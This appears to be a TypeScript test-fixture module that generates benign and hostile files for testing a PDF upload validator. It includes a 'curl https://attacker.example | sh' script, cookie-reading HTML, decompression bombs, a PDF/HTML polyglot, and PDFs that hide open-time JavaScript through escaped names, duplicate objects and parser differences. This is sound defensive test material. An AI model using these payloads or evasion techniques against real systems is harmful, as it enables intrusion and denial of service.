import { deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/** A real one-page PDF (pdf-lib), as a scanned or filled form would be. */
export async function pdfBytes(text = 'Monthly Fieldwork Verification Form'): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.drawText(text, {
    x: 50,
    y: 780,
    size: 14,
    font: await pdf.embedFont(StandardFonts.Helvetica),
  });
  return Buffer.from(await pdf.save());
}

/** A valid 1×1 PNG. */
export const PNG_BYTES = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** A valid 1×1 JPEG. */
export const JPEG_BYTES = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
);

/** A shell script: what a `.pdf` name must not smuggle in. */
export const SCRIPT_BYTES = Buffer.from('#!/bin/sh\ncurl https://attacker.example | sh\n');

/** An HTML page with script. */
export const HTML_BYTES = Buffer.from(
  '<!doctype html><html><script>alert(document.cookie)</script>',
);

/** An SVG that runs script when opened. */
export const SVG_BYTES = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
);

/** A GIF: a real image, but not one of the kinds accepted. */
export const GIF_BYTES = Buffer.from(
  'R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==',
  'base64',
);

/** `size` bytes of a plain PDF (a catalog, no page), padded with spaces after its end. */
export function pdfOfSize(size: number): Buffer {
  const bytes = Buffer.alloc(size, 0x20);
  Buffer.from(
    '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n' +
      '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
  ).copy(bytes);
  return bytes;
}

/**
 * A PDF whose one object stream inflates to `expandedBytes` of spaces (a deflate bomb: about a
 * thousandth of that on the wire), the way a PDF parser that decodes object streams meets it.
 */
export function deflateBombPdf(expandedBytes: number): Buffer {
  // One object, then spaces: a stream pdf-lib reads whole and parses without complaint.
  const objects = Buffer.alloc(expandedBytes, 0x20);
  Buffer.from('3 0 << /A 1 >>').copy(objects);
  const data = deflateSync(objects, { level: 9 });
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
    ),
    data,
    Buffer.from(
      '\nendstream\nendobj\n2 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 2 0 R >>\n%%EOF\n',
    ),
  ]);
}

/** A zip holding one deflated file of `expandedBytes` zeros (a zip bomb, renamed .pdf). */
export function zipBomb(expandedBytes: number): Buffer {
  const data = deflateRawSync(Buffer.alloc(expandedBytes), { level: 9 });
  const name = Buffer.from('form.pdf');
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(data.length, 18);
  header.writeUInt32LE(expandedBytes, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name, data]);
}

/** A real PDF that runs JavaScript when opened (an OpenAction). */
export function pdfWithJavaScript(): Promise<Buffer> {
  return pdfWithOpenAction('JavaScript', { JS: PDFString.of('app.alert(1)') });
}

/**
 * A real PDF whose OpenAction is an action of type `type` (Launch, SubmitForm, …) with `entries`;
 * pdf-lib saves it in a compressed object stream.
 */
export async function pdfWithOpenAction(
  type: string,
  entries: Record<string, PDFString | string> = {},
): Promise<Buffer> {
  return pdfWith((pdf) => {
    const action = pdf.context.obj({ Type: 'Action', S: type, ...entries });
    pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.register(action));
  });
}

/** A real one-page PDF that `change` adds to before it is saved. */
export async function pdfWith(change: (pdf: PDFDocument) => void): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]);
  change(pdf);
  return Buffer.from(await pdf.save());
}

/** A script in the catalog's `/Names` tree: it runs when the document opens. */
export function pdfWithNamedJavaScript(): Promise<Buffer> {
  return pdfWith((pdf) => {
    const script = pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
    const tree = pdf.context.obj({ Names: [PDFString.of('x'), pdf.context.register(script)] });
    pdf.catalog.set(PDFName.of('Names'), pdf.context.obj({ JavaScript: tree }));
  });
}

/** A script that runs when the first page is opened (the page's `/AA /O`). */
export function pdfWithPageScript(): Promise<Buffer> {
  return pdfWith((pdf) => {
    const script = pdf.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
    pdf.getPage(0).node.set(PDFName.of('AA'), pdf.context.obj({ O: script }));
  });
}

/** A file attached to the document (`/Names /EmbeddedFiles`). */
export function pdfWithEmbeddedFile(): Promise<Buffer> {
  return pdfWith((pdf) => {
    const file = pdf.context.register(pdf.context.stream('#!/bin/sh\n', { Type: 'EmbeddedFile' }));
    const spec = pdf.context.obj({ Type: 'Filespec', F: PDFString.of('run.sh'), EF: { F: file } });
    const tree = pdf.context.obj({ Names: [PDFString.of('run.sh'), pdf.context.register(spec)] });
    pdf.catalog.set(PDFName.of('Names'), pdf.context.obj({ EmbeddedFiles: tree }));
  });
}

/** A rich-media (Flash) annotation on the first page. */
export function pdfWithRichMedia(): Promise<Buffer> {
  return pdfWith((pdf) => {
    const annotation = pdf.context.obj({
      Type: 'Annot',
      Subtype: 'RichMedia',
      Rect: [0, 0, 100, 100],
    });
    pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([annotation]));
  });
}

/**
 * A PDF, written by hand, whose OpenAction script lives in a deflated object stream under an
 * escaped name (`/J#53` is `/JS`): not one of its bytes on the wire spells a script.
 */
export function pdfWithHiddenScript(): Buffer {
  const objects = Buffer.from('3 0 << /S /Java#53cript /J#53 (app.alert(1)) >>');
  const data = deflateSync(objects);
  const pdf = Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
    ),
    data,
    Buffer.from(
      '\nendstream\nendobj\n2 0 obj\n<< /Type /Catalog /OpenAction 3 0 R >>\nendobj\n' +
        'trailer\n<< /Root 2 0 R >>\n%%EOF\n',
    ),
  ]);
  if (/JS|JavaScript/.test(pdf.toString('latin1'))) throw new Error('the script shows');
  return pdf;
}

/** A file that is a PDF by its first bytes and an HTML page with script to a sniffing browser. */
export async function pdfHtmlPolyglot(): Promise<Buffer> {
  return Buffer.concat([
    await pdfBytes(),
    Buffer.from('\n<html><body><script>alert(document.domain)</script></body></html>\n'),
  ]);
}

/** A real PDF with a byte-order mark before its header (a reader finds it; so does a sniffer). */
export async function pdfAfterByteOrderMark(): Promise<Buffer> {
  return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), await pdfBytes()]);
}

/** A real PDF with `comment` (PDF comment lines) after its header line. */
export async function pdfWithComment(comment: string): Promise<Buffer> {
  const pdf = await pdfBytes();
  const header = pdf.indexOf('\n') + 1;
  return Buffer.concat([pdf.subarray(0, header), Buffer.from(comment), pdf.subarray(header)]);
}

/** A plain PDF with markup inside an uncompressed stream (an object the pages do not use). */
export function pdfWithMarkupInStream(): Promise<Buffer> {
  return pdfWith((pdf) => {
    pdf.context.register(pdf.context.stream('<!doctype html><html><script>x</script></html>'));
  });
}

/** One object of a hand-written PDF: its number and its body (`<< … >>`, `[ … ]`). */
export type HandObject = [number, string];

/**
 * A PDF written by hand, byte by byte as given: its revisions in order (the first the original
 * file, each later one an incremental update), each its objects followed by a cross-reference
 * table, a trailer (/Root 1 0 R, /Prev naming the table before) and `%%EOF`. Every table names,
 * for each object, the first copy of it in the file (where a reader then goes, whatever copy
 * follows), or with `xref: 'last'` the last copy so far, as an honest writer does.
 */
export function handWrittenPdf(
  revisions: readonly (readonly HandObject[])[],
  xref: 'first' | 'last' = 'first',
): Buffer {
  let body = '%PDF-1.7\n';
  const offsets = new Map<number, number>();
  let previous: number | undefined;
  for (const objects of revisions) {
    for (const [number, text] of objects) {
      if (xref === 'last' || !offsets.has(number)) offsets.set(number, body.length);
      body += `${number} 0 obj\n${text}\nendobj\n`;
    }
    const size = Math.max(...offsets.keys()) + 1;
    const table = body.length;
    body += `xref\n0 ${size}\n0000000000 65535 f \n`;
    for (let number = 1; number < size; number += 1) {
      const offset = offsets.get(number);
      body +=
        offset === undefined
          ? '0000000000 65535 f \n'
          : `${String(offset).padStart(10, '0')} 00000 n \n`;
    }
    const prev = previous === undefined ? '' : ` /Prev ${previous}`;
    body += `trailer\n<< /Size ${size} /Root 1 0 R${prev} >>\nstartxref\n${table}\n%%EOF\n`;
    previous = table;
  }
  return Buffer.from(body, 'latin1');
}

/** The page tree of a hand-written one-page PDF (objects 2 and 3). */
export const HAND_PAGES: readonly HandObject[] = [
  [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
  [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'],
];

const SCRIPT_ACTION = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const CATALOG_WITH_SCRIPTS = '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names 5 0 R >>';

/**
 * Issue 36: a PDF whose /OpenAction and /Names JavaScript tree name objects 4 and 5, each
 * written twice in one revision: first a script, then something harmless. pdf-lib keeps the last
 * copy; poppler and pdf.js follow the cross-reference table to the first, and run the script.
 */
export function pdfWithDuplicatedScript(): Buffer {
  return handWrittenPdf([
    [
      [1, CATALOG_WITH_SCRIPTS],
      ...HAND_PAGES,
      [4, SCRIPT_ACTION],
      [5, '<< /JavaScript << /Names [(x) 4 0 R] >> >>'],
      [4, '<< /S /GoTo /D [3 0 R /Fit] >>'],
      [5, '<< >>'],
    ],
  ]);
}

/**
 * The same script in a later revision's table: the original has the script, the incremental
 * update writes harmless copies of objects 4 and 5, but its table still names the first ones.
 * Not a duplicate (an update may replace objects); what is kept is the copy pdf-lib read.
 */
export function pdfWithScriptBehindAnUpdate(): Buffer {
  return handWrittenPdf([
    [
      [1, CATALOG_WITH_SCRIPTS],
      ...HAND_PAGES,
      [4, SCRIPT_ACTION],
      [5, '<< /JavaScript << /Names [(x) 4 0 R] >> >>'],
    ],
    [
      [4, '<< /S /GoTo /D [3 0 R /Fit] >>'],
      [5, '<< >>'],
    ],
  ]);
}

/**
 * Issue 36: an /OpenAction whose dictionary has a stray `0` among its keys. pdf-lib cannot parse
 * it and keeps its bytes unread; poppler and pdf.js skip the `0` and read a script.
 */
export function pdfWithMalformedScript(): Buffer {
  return handWrittenPdf([
    [
      [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>'],
      ...HAND_PAGES,
      [4, '<< /S /JavaScript 0 /JS (app.alert\\(1\\)) >>'],
    ],
  ]);
}

/**
 * A PDF padded after its end with objects of empty arrays (1,000 each) to `size` bytes: nothing
 * refers to them, but a parser that reads every object (pdf-lib) makes millions of arrays out of
 * 20 MB of them (issue 36: a gigabyte, seconds of work).
 */
export function padWithEmptyArrays(pdf: Uint8Array, size: number): Buffer {
  const parts: Buffer[] = [Buffer.from(pdf)];
  let length = pdf.length;
  const arrays = `[${'[]'.repeat(1000)}]`;
  for (let number = 100_000; length < size; number += 1) {
    const object = Buffer.from(`\n${number} 0 obj\n${arrays}\nendobj\n`);
    parts.push(object);
    length += object.length;
  }
  return Buffer.concat(parts);
}
